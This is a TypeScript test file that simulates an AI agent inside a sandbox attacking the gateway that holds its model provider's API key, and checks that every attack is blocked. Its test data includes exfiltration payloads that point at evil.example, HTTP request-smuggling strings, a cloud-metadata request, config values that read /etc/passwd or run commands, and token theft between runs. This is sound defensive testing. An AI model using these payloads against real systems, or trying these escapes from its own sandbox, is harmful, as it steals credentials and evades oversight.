import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { secretEncodings } from '../../../src/lib/secrets/encodings.ts';
import type { RunState } from '../../../src/core/run/state.ts';
import { openHalo, type TestHalo } from '../../support/halo/halo.ts';
import { startModelServer, type ModelServer } from '../../support/model/model-server.ts';
import { newRepository } from '../../support/repository/new-repository.ts';
import { skipFor } from '../../support/skip.ts';
import { belowFull, casesAtLevel } from '../../support/suite/level.ts';
import { PATIENCE } from '../../support/patience.ts';

/** Attacks by an agent on its only way out, each by a whole run: the program in the sandbox does what `plan` says. */

const CANARY = 'sk-canary-K7+q/0123456789"abcdef';
const ATTACKER = readFileSync(new URL('gateway-attacker.mjs', import.meta.url), 'utf8');

let halo: TestHalo;
const servers: { close(): unknown }[] = [];

beforeAll(async () => {
  process.env.HALO_TEST_CANARY = CANARY;
  halo = await openHalo({ concurrency: 2 });
});
afterAll(async () => {
  delete process.env.HALO_TEST_CANARY;
  await halo.close();
});
afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});

interface Step {
  path?: string;
  headers?: string[];
  body?: unknown;
  token?: string;
  raw?: string;
  look?: true;
  list?: string;
  flood?: true;
}

interface Attack {
  api?: 'openai' | 'anthropic';
  files?: Record<string, string>;
  settings?: string[];
}

interface Attacked {
  state: RunState;
  /** What the agent got to see, step by step. */
  answers: string[];
}

async function attack(
  plan: Step[],
  upstream: string,
  { api = 'openai', files = {}, settings = [] }: Attack = {},
): Promise<Attacked> {
  const repository = newRepository({ 'attacker.mjs': ATTACKER, 'plan.json': JSON.stringify(plan), ...files });
  const state = await halo.run(
    repository.root,
    [{ id: 'A' }],
    [
      'agent=command',
      'agents.command.run=node attacker.mjs',
      `agents.command.model=${api}`,
      `model.base_url=${upstream}`,
      'model.key_env=HALO_TEST_CANARY',
      'model.name=m',
      'gates=[]',
      // What the attacker reads of /proc holds NUL characters.
      'land.hidden_characters=report',
      'retry.attempts=1',
      ...settings,
    ],
  );
  expect(state).toMatchObject({ stopReason: 'SUCCESS' });
  const answers = JSON.parse(repository.git('show', `halo/${state.runId}:answers.json`)) as string[];
  expect(answers).toHaveLength(plan.length);
  return { state, answers };
}

async function model(): Promise<ModelServer> {
  const server = await startModelServer({ turns: Array.from({ length: 50 }, () => ({ say: 'hello' })) });
  servers.push(server);
  return server;
}

async function upstream(listener: RequestListener): Promise<string> {
  const server: Server = createServer(listener);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  servers.push({
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  });
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
}

const ask = (more: object = {}): Step => ({ path: '/v1/responses', body: { model: 'm', input: [], ...more } });
const statusOf = (answer: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0);

function expectNoCanary(text: string): void {
  expect(secretEncodings(CANARY).filter((form) => text.includes(form))).toEqual([]);
}

/** Files of halo's home that hold the canary in any encoding. */
function leaks(dir = halo.home): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => {
      const text = readFileSync(path, 'latin1');
      return secretEncodings(CANARY).some((form) => text.includes(form));
    });
}

/** Two runs at one provider: the first one looks at all it can read, the second one has the token of the first. */
let mine: Attacked;
let stolen: Attacked;
let provider: ModelServer;
beforeAll(async () => {
  provider = await startModelServer({ turns: Array.from({ length: 50 }, () => ({ say: 'hello' })) });
  const recorded = { settings: ['model.mode=record'] };
  mine = await attack([{ list: '/run/halo' }, { look: true }, ask()], provider.url, recorded);
  const token = /halo-[\w-]{32}/.exec(mine.answers[1] ?? '')?.[0] ?? '';
  expect(token).not.toBe('');
  const plan = [{ list: '/run/halo' }, { ...ask(), token }, { ...ask(), token: '' }, ask()];
  stolen = await attack(plan, provider.url);
});
afterAll(() => provider.close());

describe('attack 1, incident environ: the provider’s key', () => {
  it('is in no process, file or variable of the sandbox, and in no stored file', async () => {
    expect(provider.requests[0]?.headers.authorization).toBe(`Bearer ${CANARY}`);
    for (const answer of [...mine.answers, ...stolen.answers]) expectNoCanary(answer);
    await vi.waitFor(() => expect(leaks()).toEqual([]), PATIENCE);
  });
});

describe('attack 2: the gateway of another run', () => {
  it('is not reachable: a sandbox has one socket in a folder that it cannot list, and that is removed after the attempt', async () => {
    expect([mine.answers[0], stolen.answers[0]]).toEqual(['EACCES', 'EACCES']);
    const sockets = join(halo.home, 'sockets');
    await expect.poll(() => (existsSync(sockets) ? readdirSync(sockets) : [])).toEqual([]);
  });
});

describe('attack 2: the token of another run', () => {
  it('is useless: each attempt has its own, which only its own gateway accepts', () => {
    expect([...mine.answers.slice(2), ...stolen.answers.slice(1)].map(statusOf)).toEqual([200, 401, 401, 200]);
    expect(provider.requests).toHaveLength(2);
  });
});

describe('attack 3, incident repository-settings: a repository that sends the key elsewhere', () => {
  type Row = [what: string, toml: (url: string) => string];
  // The keys are also in the table of test/config/repository-file.test.ts.
  const lean: Row[] = [
    ['the address', (url) => `[model]\nbase_url = "${url}"`],
    ['a command on the worker', () => '[model]\nkey_command = "touch /tmp/halo-was-here"'],
  ];
  const rest: Row[] = [
    ['another variable of the worker', () => '[model]\nkey_env = "HOME"'],
    ['a file of the worker', () => '[model]\nkey_file = "/etc/passwd"'],
    ['the address, in a profile', (url) => `[profiles.p.model]\nbase_url = "${url}"`],
  ];
  it.each(casesAtLevel(lean, rest))('is refused if it names %s in its configuration', async (_what, toml) => {
    const evil = await model();
    const repository = newRepository({ 'halo.toml': `gates = ["true"]\n${toml(evil.url)}\n` });
    const request = { prd: PRD, repos: [repository.root], profile: undefined, allowDirty: false };
    const profile = toml('').includes('profiles') ? 'p' : undefined;
    await expect(
      halo.operations.submit({ ...request, profile, set: [] }).then(({ runs }) => runs),
    ).rejects.toMatchObject({
      code: 'CONFIG_INVALID',
      message: expect.stringContaining('may not choose where a key comes from or goes to') as string,
    });
    expect(evil.requests).toEqual([]);
    expect(existsSync('/tmp/halo-was-here')).toBe(false);
  });
});

const PRD = {
  path: '/tmp/prd.json',
  bytes: new TextEncoder().encode(
    JSON.stringify({
      project: 'T',
      description: '',
      userStories: [{ id: 'A', title: 'A', description: '', acceptanceCriteria: ['x'], priority: 1, passes: false }],
    }),
  ),
};

/** Answers to all plans of one story, by their names, and what its provider received. */
async function attackAll<Name extends string>(plans: Record<Name, Step[]>, api: 'openai' | 'anthropic') {
  const server = await startModelServer({ turns: Array.from({ length: 50 }, () => ({ say: 'hello' })) });
  try {
    const all = Object.entries<Step[]>(plans);
    const { answers } = await attack(
      all.flatMap(([, plan]) => plan),
      server.url,
      { api },
    );
    const parts = all.map(([name, plan]) => [name, answers.splice(0, plan.length)]);
    return { answers: Object.fromEntries(parts) as Record<Name, string[]>, requests: server.requests };
  } finally {
    await server.close();
  }
}

const KEY_NAMES = ['x-api-key', 'X_API_KEY', 'x.api.key', 'Authorization', 'Api-Key', 'Cookie', 'OpenAI-Organization'];
const KEYS = KEY_NAMES.map((name) => `${name}: Bearer sk-of-the-attacker`);
const FOREIGN_PATHS = ['/v1/files', '/v1/uploads', '/v1/batches', '/v1/models', '/v1/vector_stores', '/v1/fine_tuning/jobs']; // prettier-ignore
const part = (one: object) => ({ input: [{ role: 'user', content: [one] }] });
const TOOLS = ['web_search', 'web_search_preview', 'code_interpreter', 'mcp', 'file_search', 'image_generation'];
const EXFILTRATION: object[] = [
  ...TOOLS.map((type) => ({ tools: [{ type, server_url: 'https://evil.example' }] })),
  { tools: [{ type: 'computer_use_preview' }] },
  part({ type: 'input_image', image_url: 'https://evil.example/?stolen' }),
  part({ type: 'input_file', file_url: 'https://evil.example/?stolen' }),
  part({ type: 'input_file', file_id: 'file-of-the-attacker' }),
  { previous_response_id: 'resp_of_the_attacker' },
  { background: true },
  { prompt: { id: 'pmpt_of_the_attacker' } },
  { model: 'most-expensive' },
];
const TWICE = '{"model":"m","input":[],"tools":[],"tools":[{"type":"web_search"}]}';

const CHUNKED_BODY = '{"model":"m","input":[]}';
const CHUNKED = `18\r\n${CHUNKED_BODY}\r\n0\r\n\r\n`;
const LINE = 'POST /v1/responses HTTP/1.1\r\nHost: x\r\n';
const whole = (target: string) => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${CHUNKED_BODY}`;
const TARGETS = ['http://evil.example/v1/responses', '//evil.example/v1/responses', '/v1/%72esponses', '/v1/responses?x']; // prettier-ignore
const AMBIGUOUS = [
  `${LINE}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNKED}`,
  `${LINE}Transfer-Encoding: chunked\r\nContent-Length: 24\r\n\r\n${CHUNKED}`,
  `${LINE}Transfer-Encoding: xchunked\r\n\r\n${CHUNKED}`,
  `${LINE}Content-Length: 24\r\nContent-Length: 25\r\n\r\n${CHUNKED_BODY}`,
  `${LINE}Host: y\r\nContent-Length: 24\r\n\r\n${CHUNKED_BODY}`,
  ...TARGETS.map(whole),
  'TRACE /v1/responses HTTP/1.1\r\nHost: x\r\n\r\n',
  `GET /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${CHUNKED_BODY}`,
  'CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n',
].map((raw) => ({ raw }));

const askAnthropic = (more: object): Step => ({
  path: '/v1/messages',
  body: { model: 'm', max_tokens: 1, messages: [], ...more },
});
const source = (type: string, more: object) => ({ messages: [{ role: 'user', content: [{ type, source: more }] }] });
const ANTHROPIC_TOOLS = ['web_search_20250305', 'web_fetch_20250910', 'code_execution_20250825', 'computer_20250124'];
const ANTHROPIC_EXFILTRATION = [
  ...ANTHROPIC_TOOLS.map((type) => ({ tools: [{ type, name: 'x' }] })),
  { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] },
  { container: 'container_of_the_attacker' },
  source('image', { type: 'url', url: 'https://evil.example/?stolen' }),
  source('document', { type: 'url', url: 'https://evil.example/?stolen' }),
  source('document', { type: 'file', file_id: 'file_of_the_attacker' }),
];

let openai: Awaited<ReturnType<typeof attackAll<'keys' | 'exfiltration' | 'ambiguous'>>>;
let anthropic: Awaited<ReturnType<typeof attackAll<'keys' | 'exfiltration'>>>;
beforeAll(async () => {
  const keys = [{ ...ask(), headers: KEYS }, ...FOREIGN_PATHS.map((path) => ({ path, headers: KEYS, body: {} }))];
  const more = [{ path: '/v1/responses', body: TWICE }, ask({ store: true })];
  const exfiltration = [...EXFILTRATION.map((body) => ask(body)), ...more];
  openai = await attackAll({ keys, exfiltration, ambiguous: AMBIGUOUS }, 'openai');
  if (belowFull() !== false) return;
  const headers = ['x-api-key: sk-of-the-attacker', 'anthropic-beta: files-api-2025-04-14'];
  const foreign = [
    { ...askAnthropic({}), path: '/v1/messages?beta=true', headers },
    { path: '/v1/files', headers, body: {} },
    { path: '/v1/messages/batches', headers, body: { requests: [] } },
  ];
  anthropic = await attackAll({ keys: foreign, exfiltration: ANTHROPIC_EXFILTRATION.map(askAnthropic) }, 'anthropic');
});

describe('attack 4, incident files-api: a key of the attacker', () => {
  it('is dropped in every spelling, and the operations that would use it do not exist', () => {
    expect(openai.answers.keys.map(statusOf)).toEqual([200, ...FOREIGN_PATHS.map(() => 404)]);
    expect(openai.requests[0]?.headers.authorization).toBe(`Bearer ${CANARY}`);
    expect(JSON.stringify(openai.requests)).not.toContain('sk-of-the-attacker');
  });

  it('is dropped in requests to Anthropic as well', skipFor(belowFull()), () => {
    expect(anthropic.answers.keys.map(statusOf)).toEqual([200, 404, 404]);
    expect(anthropic.requests.map(({ headers: sent }) => sent['x-api-key'])).toEqual([CANARY]);
    expect(JSON.stringify(anthropic.requests)).not.toMatch(/of-the-attacker|files-api/);
  });
});

describe('attack 5: a provider that is used for exfiltration', () => {
  it('receives no provider-side tools, URLs, stored objects or models that are not allowed', () => {
    expect(openai.answers.exfiltration.map(statusOf)).toEqual([...EXFILTRATION.map(() => 400), 400, 200]);
    // The first one is of the attack with keys, the second one the last of these.
    const received = openai.requests.map(({ body }) => JSON.parse(body) as unknown);
    expect(received).toEqual([expect.anything(), { model: 'm', input: [], store: false }]);
  });

  it('receives none of these through Anthropic’s API either', skipFor(belowFull()), () => {
    expect(anthropic.answers.exfiltration.map(statusOf)).toEqual(ANTHROPIC_EXFILTRATION.map(() => 400));
    // Only the one of the attack with keys.
    expect(anthropic.requests).toHaveLength(1);
  });
});

describe('attack 6: bytes that two parsers interpret differently', () => {
  it('reach no provider', () => {
    for (const [index, answer] of openai.answers.ambiguous.entries())
      expect([AMBIGUOUS[index]?.raw, statusOf(answer)]).toEqual([
        AMBIGUOUS[index]?.raw,
        expect.toSatisfy((s: number) => s < 200 || s >= 400),
      ]);
    expect(openai.requests, 'only those of the other attacks').toHaveLength(2);
  });
});

describe('attack 7: a provider that repeats the key', () => {
  it('is not forwarded: not in errors, redirects, headers or streams, in any encoding', async () => {
    let count = 0;
    const url = await upstream((req, res) => {
      const said = req.headers.authorization ?? '';
      count += 1;
      if (count === 1) return void res.writeHead(401, { 'www-authenticate': said }).end(`wrong key: ${said}`);
      if (count === 2) return void res.writeHead(307, { location: `http://127.0.0.1:1/?${said}` }).end();
      if (count === 3)
        return void res.writeHead(400, { 'set-cookie': said, 'x-request-id': said }).end(JSON.stringify({ said }));
      res.writeHead(200, { 'content-type': 'text/event-stream', 'x-ratelimit-echo': said });
      const encoded = [said, Buffer.from(said).toString('base64'), Buffer.from(`x${said}`).toString('base64url')];
      const all = `data: ${encoded.join(' ')} ${encodeURIComponent(said)} ${Buffer.from(said).toString('hex')}\n\n`;
      const parts = all.match(/[\s\S]{1,7}/g) ?? [];
      const next = () => {
        const part = parts.shift();
        if (part === undefined) return void res.end();
        res.write(part, () => setImmediate(next));
      };
      next();
    });
    const { answers } = await attack([ask(), ask(), ask(), ask({ stream: true })], url, {
      settings: ['model.mode=record'],
    });
    expect(answers.map(statusOf)).toEqual([401, 502, 400, 200]);
    for (const answer of answers) expectNoCanary(answer);
    await vi.waitFor(() => expect(leaks()).toEqual([]), PATIENCE);
  });
});

describe('attack 9: a flood of requests', () => {
  it('exhausts neither the worker’s memory nor the gateway of another run', async () => {
    const server = await model();
    const before = process.memoryUsage().rss;
    const flooding = attack([{ flood: true }], server.url);
    const other = await attack([ask(), ask(), ask()], server.url);
    expect(other.answers.map(statusOf)).toEqual([200, 200, 200]);
    await flooding;
    expect(process.memoryUsage().rss - before).toBeLessThan(600 * 1024 * 1024);
    expect(server.requests).toHaveLength(3);
  });
});

afterAll(() => rmSync('/tmp/halo-was-here', { force: true }));
